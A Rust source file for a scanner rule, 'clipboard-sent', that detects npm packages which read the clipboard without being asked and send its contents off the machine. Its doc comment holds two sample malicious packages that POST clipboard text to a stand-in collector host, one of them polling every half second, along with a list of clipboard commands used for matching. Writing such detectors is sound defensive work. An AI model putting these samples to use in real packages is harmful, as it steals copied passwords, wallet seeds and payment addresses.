//! # What is in the clipboard leaves the machine
//!
//! What the clipboard holds, read without being asked, reaches a host or a command that sends.
//!
//! ## Why it matters
//!
//! People copy passwords, seeds and addresses of payments. Remote-access tools watch the clipboard every
//! second.
//!
//! ## Known benign uses
//!
//! Clipboard tools read it when they are called, and editors take what a person pastes.
//!
//! ## Bad
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! const { execSync } = require("child_process");
//! setInterval(() => {
//!   const text = execSync("pbpaste").toString();
//!   fetch("http://collector.invalid/c", { method: "POST", body: text }); //~ here
//! }, 500);
//! ```
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.mjs"}
//! == index.mjs
//! import clipboard from "clipboardy";
//! const text = await clipboard.read();
//! await fetch("https://collector.invalid/", { method: "POST", body: text }); //~ here
//! ```
//!
//! ## Good
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! const clipboard = require("clipboardy");
//! exports.share = async (address) => fetch(address, { method: "POST", body: await clipboard.read() });
//! ```
//!
//! ## References
//!
//! - Socket: OtterCookie (November 2025)

use crate::prelude::*;

/// What is in the clipboard leaves the machine.
pub struct ClipboardSent;

impl Rule for ClipboardSent {
    fn meta(&self) -> &'static RuleMeta {
        &RuleMeta {
            id: "clipboard-sent",
            title: "What is in the clipboard leaves the machine",
            tier: Tier::Source,
            role: Role::Threat,
            severity: Level::High,
            specificity: Level::High,
            technique: "T1115",
            covers: &["collect-clipboard"],
            status: RuleStatus::Stable,
            since: "0.1.0",
        }
    }

    fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
        let is_named = |sink: &Sink| sink.leaves_machine() && *sink != Sink::Network(None);
        for flow in facts.flows(is_clipboard, is_named).filter(|flow| flow.trigger.runs_unasked()) {
            found.flow(flow);
        }
    }
}

fn is_clipboard(source: &Source) -> bool {
    const COMMANDS: [&str; 6] =
        ["pbpaste", "xclip", "xsel", "wl-paste", "Get-Clipboard", "termux-clipboard-get"];
    match source {
        Source::Clipboard => true,
        Source::CommandOutput(command) => COMMANDS.iter().any(|known| command.contains(known)),
        _ => false,
    }
}
